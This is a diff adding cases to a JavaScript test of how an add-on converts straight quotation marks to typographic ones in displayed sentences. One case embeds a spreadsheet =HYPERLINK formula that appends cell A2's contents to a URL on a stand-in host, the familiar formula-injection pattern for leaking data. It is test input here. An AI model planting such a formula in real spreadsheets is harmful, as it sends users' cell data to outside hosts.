@@ -93,6 +93,15 @@ test('a phrase keeps its words and values in order, and a value brings no markup
 
 test.each([
   ['"Status" says "P", 2 h by Ana O\'Neil', '“Status” says “P”, 2 h by Ana O’Neil'],
+  [
+    '"Office" says "=HYPERLINK("http://example.com/?"&A2,"click")", which would run.',
+    '“Office” says “=HYPERLINK("http://example.com/?"&A2,"click")”, which would run.',
+  ],
+  [
+    'Two columns (headers "A" and "B"), or one ("C"): "Y"/"N"?',
+    'Two columns (headers “A” and “B”), or one (“C”): “Y”/“N”?',
+  ],
+  ['Member ID "" is empty. Use "=A1&"x""?', 'Member ID “” is empty. Use “=A1&"x"”?'],
   ["the others' e-mail; it is not the row's", 'the others’ e-mail; it is not the row’s'],
   ['\'007 is a text, and 5" is a length', '\'007 is a text, and 5" is a length'],
 ])('a sentence of the add-on has the quotation marks of the page: %s', (sentence, shown) => {
